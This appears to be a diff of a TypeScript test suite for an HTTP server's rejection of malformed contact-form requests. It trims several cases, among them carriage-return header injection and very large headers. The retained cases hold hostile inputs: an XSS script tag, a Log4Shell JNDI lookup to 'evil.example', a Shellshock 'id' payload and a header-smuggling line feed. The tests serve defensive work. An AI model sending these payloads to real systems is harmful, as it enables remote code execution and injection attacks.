@@ -18,22 +18,13 @@ const withHost = (...hosts: string[]) =>
   submissionWithHeaders('contact', [...hosts, ...content, 'Connection: close']);
 const withLines = (...lines: string[]) => submission('contact', lines);
 
-const otherHosts = [
-  'evil.example',
-  'a@evil.example',
-  '<script>alert(1)</script>',
-  '[::1',
-  'a'.repeat(4_000),
-  '',
-];
+const otherHosts = ['evil.example', 'a@evil.example', '<script>alert(1)</script>', '[::1', ''];
 
 const hosts: RawCase[] = [
   ...answered(['malformed-request'], {
     'no host': withHost(),
     'two hosts': withHost('Host: a', 'Host: evil.example'),
-    'one host said twice': withHost('Host: a', 'host: a'),
     'a folded host': withHost('Host: a\r\n b'),
-    'a host after a blank': withHost(' Host: a'),
   }),
   ...otherHosts.map((host): RawCase => {
     const name = `the host ${JSON.stringify(host.slice(0, 40))}, which decides nothing`;
@@ -45,11 +36,9 @@ const form: RawCase[] = [
   ...answered(['malformed-request'], {
     'a folded header': withLines('X: a\r\n b'),
     'a header without a colon': withLines('X'),
-    'a header without a name': withLines(': a'),
     'a blank in the name of a header': withLines('X Y: a'),
     'a blank before the colon': withLines('X : a'),
     'a zero byte in a value': withLines('X: a\0b'),
-    'a carriage return in a value': withLines('X: a\rY: b'),
     'a line feed in a value': withLines('X: a\nContent-Length: 0'),
     'an escape character in a value': withLines('X: a\x1b[2Jb'),
     'a name beyond ASCII': withLines('X\xe9: b'),
@@ -69,10 +58,7 @@ const numbers: RawCase[] = [
   }),
   ...answered(['headers-too-large'], {
     '200 more': times(200, 'a: 1'),
-    '20,000 more, of which not all are read': times(20_000, 'a:'),
     'one of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
-    'one of 200 KB': withLines(`X: ${'a'.repeat(200_000)}`),
-    'a name of 17 KB': withLines(`${'a'.repeat(17_000)}: 1`),
     'ten cookies of 4 KB': times(10, `Cookie: a=${'a'.repeat(4_000)}`),
   }),
 ];
@@ -101,8 +87,6 @@ const believed: RawCase[] = [
       `User-Agent: \${jndi:ldap://evil.example/a}`,
       'Referer: () { :; }; id',
     ),
-    'an expectation that nobody meets': withLines('Expect: the-moon'),
-    'who asks before sending, twice': withLines('Expect: 100-continue', 'Expect: 100-continue'),
     'who asks in HTTP/1.0, which knows no such answer': asks.replace('HTTP/1.1', 'HTTP/1.0'),
   }),
   ...answered(['not-found'], {
